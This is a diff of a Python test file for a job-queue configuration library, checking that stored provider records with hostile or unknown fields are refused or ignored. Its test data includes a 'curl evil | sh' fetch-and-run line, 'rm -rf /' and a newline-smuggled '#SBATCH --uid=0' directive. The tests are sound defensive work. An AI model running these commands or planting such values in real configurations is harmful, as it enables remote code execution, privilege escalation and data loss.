@@ -76,8 +76,6 @@ def test_bad_provider_blocks_are_refused(block: object, match: str) -> None:
     [
         {"kind": "slurm", "partition": "x\n#SBATCH --uid=0"},
         {"kind": "local", "max_workers": 1e9},
-        {"kind": "local", "setup": "curl evil | sh"},
-        {"kind": "command", "launch": "rm -rf /"},
         {"kind": msgpack.ExtType(1, b"x")},
         {1: 2},
         "kubernetes",
@@ -88,6 +86,16 @@ def test_a_hostile_provider_in_a_stored_record_is_refused(provider: object) -> N
     data = msgpack.packb({"v": 1, "provider": provider})
     with pytest.raises(RecordError, match="not a valid queue record"):
         QueueConfig.from_bytes(data)
+
+
+@pytest.mark.parametrize(
+    ("extra", "kind"),
+    [({"new": 1}, "local"), ({"setup": "curl evil | sh"}, "slurm"), ({"launch": "rm"}, "command")],
+)
+def test_fields_a_provider_block_does_not_have_are_never_read(extra: dict, kind: str) -> None:
+    """A newer lakeshore's field is left for it; shell text has no field to land in."""
+    data = msgpack.packb({"v": 1, "provider": {"kind": kind, "max_workers": 2, **extra}})
+    assert QueueConfig.from_bytes(data).provider == ProviderConfig(kind, max_workers=2)
 
 
 def test_an_old_record_with_provider_ref_still_reads() -> None:
@@ -121,7 +129,7 @@ B = ProviderConfig("slurm", max_workers=4, jobs_per_worker=10, cooldown_s=30)
         (300, 0, 0, {"cap": 6, "fleet": 5}, (4, 1, 0)),  # the scaler's cap over its queues
         (300, 0, 0, {"cap": 6, "fleet": 6}, (4, 0, 0)),
         (0, 1, 3, {}, (0, 0, 3)),  # nothing live: waiting workers go, running ones stay
-        (5, 0, 3, {}, (1, 0, 2)),
+        (5, 0, 3, {}, (1, 0, 0)),  # a dip: the waiting keep their place in the queue
         (0, 2, 0, {}, (0, 0, 0)),  # running workers leave by idle exit
     ],
 )
